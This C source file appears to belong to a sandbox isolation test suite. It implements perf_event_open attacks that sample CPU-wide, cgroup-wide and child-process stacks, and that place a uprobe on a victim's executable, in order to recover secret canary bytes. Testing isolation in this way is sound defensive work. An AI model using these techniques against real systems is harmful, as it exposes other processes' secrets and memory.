/* SPDX-License-Identifier: Apache-2.0 */
/* perf_event_open(2) in ways that name no process, or another file than it runs. */
#define _GNU_SOURCE
#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/perf_event.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "attack.h"

static long open_event(struct perf_event_attr *attributes, int target, unsigned long flags)
{
	attributes->size = sizeof(*attributes);
	attributes->disabled = 1;
	return close_again(syscall(SYS_perf_event_open, attributes, target, 0, -1,
				   flags | PERF_FLAG_FD_CLOEXEC));
}

/* With the stack of the process that runs. */
static struct perf_event_attr stack_samples(void)
{
	return (struct perf_event_attr){
		.type = PERF_TYPE_SOFTWARE,
		.config = PERF_COUNT_SW_CPU_CLOCK,
		.sample_period = 1000000,
		.sample_type = PERF_SAMPLE_STACK_USER,
		.sample_stack_user = PAGE_BYTES,
	};
}

/* Samples the processes that run on a processor. */
static long sample_all(const struct prey *prey)
{
	struct perf_event_attr attributes = stack_samples();

	(void)prey;
	return open_event(&attributes, -1, 0);
}

/* The mount of cgroup2: by itself, or beside the first version. */
static int open_group(const struct prey *prey)
{
	static const char *const places[] = { "/sys/fs/cgroup/unified", "/sys/fs/cgroup" };
	char path[512], line[256] = "", *group = NULL;
	FILE *file;
	int fd = -1;

	snprintf(path, sizeof(path), "/proc/%d/cgroup", prey->pid);
	file = fopen(path, "r");
	while (file && !group && fgets(line, sizeof(line), file))
		if (strncmp(line, "0::", 3) == 0)
			group = strtok(line + 3, "\n");
	if (file)
		fclose(file);
	errno = ENOENT;
	for (int i = 0; group && fd < 0 && i < 2; i++) {
		snprintf(path, sizeof(path), "%s%s", places[i], group);
		fd = open(path, O_RDONLY | O_DIRECTORY);
	}
	return fd;
}

/* Samples the processes in its own control group. */
static long sample_group(const struct prey *prey)
{
	struct perf_event_attr attributes = stack_samples();
	int group = open_group(prey);
	long result = group < 0 ? -1 : open_event(&attributes, group, PERF_FLAG_PID_CGROUP);

	close_again(group);
	return result;
}

static int probe_type(void)
{
	char text[16] = "";
	int fd = open("/sys/bus/event_source/devices/uprobe/type", O_RDONLY);

	if (fd >= 0 && read(fd, text, sizeof(text) - 1) < 0)
		text[0] = 0;
	close_again(fd);
	return atoi(text);
}

/* The offset of its first instruction in the file; programs that are not moved begin at 4 MiB. */
static unsigned long first_instruction(const char *path)
{
	Elf64_Ehdr head = { 0 };
	int fd = open(path, O_RDONLY);

	if (fd >= 0 && read(fd, &head, sizeof(head)) < 0)
		head.e_entry = 0;
	close_again(fd);
	return head.e_type == ET_EXEC ? head.e_entry - 0x400000 : head.e_entry;
}

/* At a place in the file that the victim runs, in each process that runs it. */
static long probe(const struct prey *prey)
{
	struct perf_event_attr attributes = { .type = probe_type(), .sample_period = 1 };
	char link[32], path[256];
	long length;

	snprintf(link, sizeof(link), "/proc/%d/exe", prey->pid);
	length = readlink(link, path, sizeof(path) - 1);
	if (length < 0)
		return -1;
	path[length] = 0;
	attributes.config1 = (unsigned long)path;
	attributes.config2 = first_instruction(path);
	return open_event(&attributes, -1, 0);
}

static int event_before = -1;

/* For all that the victim and its children touch: samples are lost when it is full. */
#define RING_BYTES (1 << 24)

/* Each page that it touches is a sample, with its stack. Its children are sampled, too. */
static void sample_before(const struct prey *prey)
{
	struct perf_event_attr attributes = {
		.type = PERF_TYPE_SOFTWARE,
		.size = sizeof(attributes),
		.config = PERF_COUNT_SW_PAGE_FAULTS,
		.sample_period = 1,
		.sample_type = PERF_SAMPLE_TID | PERF_SAMPLE_STACK_USER,
		.sample_stack_user = 16 * PAGE_BYTES - 8,
		.exclude_kernel = 1,
		.inherit = 1,
	};

	event_before = syscall(SYS_perf_event_open, &attributes, prey->pid, 0, -1, PERF_FLAG_FD_CLOEXEC);
}

/* The bytes of processes that the victim has started; its own were read before. */
static long bytes_of_children(const struct prey *prey, struct perf_event_mmap_page *ring)
{
	const char *data = (const char *)ring + PAGE_BYTES;
	static char record[1 << 17];

	while (ring->data_tail < ring->data_head) {
		struct perf_event_header head;
		__u32 pid;

		for (size_t i = 0; i < sizeof(head); i++)
			((char *)&head)[i] = data[(ring->data_tail + i) % RING_BYTES];
		for (size_t i = 0; i < head.size; i++)
			record[i] = data[(ring->data_tail + i) % RING_BYTES];
		ring->data_tail += head.size;
		memcpy(&pid, record + sizeof(head), sizeof(pid));
		if (head.type == PERF_RECORD_SAMPLE && pid != (__u32)prey->pid &&
		    canary_bytes(record, head.size) > 0)
			return canary_bytes(record, head.size);
	}
	return 0;
}

/* A copy of its stack has the victim's secrets of there. */
static long sample_children(const struct prey *prey)
{
	struct perf_event_mmap_page *ring = mmap(NULL, PAGE_BYTES + RING_BYTES, PROT_READ | PROT_WRITE,
						 MAP_SHARED, event_before, 0);
	char answer;
	int connection;
	long length;

	if (ring == MAP_FAILED)
		return -1;
	connection = ask_victim(prey->pid, 'c');
	if (connection < 0)
		return -1;
	length = read(connection, &answer, 1);
	close_again(connection);
	errno = length == 1 ? answer : EPIPE;
	return errno ? -1 : bytes_of_children(prey, ring);
}

const struct attack perf_attacks[] = {
	{ "perf-all", NULL, sample_all },
	{ "perf-cgroup", NULL, sample_group },
	{ "perf-children", sample_before, sample_children },
	{ "perf-uprobe", NULL, probe },
	{ 0 },
};
